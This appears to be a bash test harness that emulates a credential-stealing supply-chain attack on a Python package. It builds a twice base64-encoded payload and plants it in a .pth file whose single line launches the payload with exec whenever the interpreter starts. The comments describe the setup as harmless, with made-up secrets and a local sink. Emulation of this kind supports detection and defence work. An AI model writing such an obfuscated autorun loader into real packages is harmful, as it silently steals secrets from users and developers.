#!/usr/bin/env bash
# Emulates the theft of March 2026 in a Python package: a line of a .pth file starts the thief with every interpreter.
# Harmless: secrets are made up, the sink is in the test's own namespace, the .pth is read by this one interpreter only.
# DETACH=1: the host program ends at once and leaves the thief behind.
set -euo pipefail
: "${HOME:?}" "${TMPDIR:?}" "${SINK:?}" "${PUBKEY:?}"
here=$(dirname "$(readlink -f "$0")")
site="$TMPDIR/site-packages"
mkdir -p "$site"

# Encoded twice, as the original was: the collector inside the first stage, the first stage inside the .pth.
stage=$({ printf "COLLECTOR = '%s'\n" "$(base64 -w0 "$here/../sweep.py")"; cat "$here/../pack.py" "$here/stage.py"; } | base64 -w0)
printf "import subprocess, sys; subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('%s'))\"])\n" \
  "$stage" > "$site/litellm_init.pth"

python3 "$here/host.py" "$site"
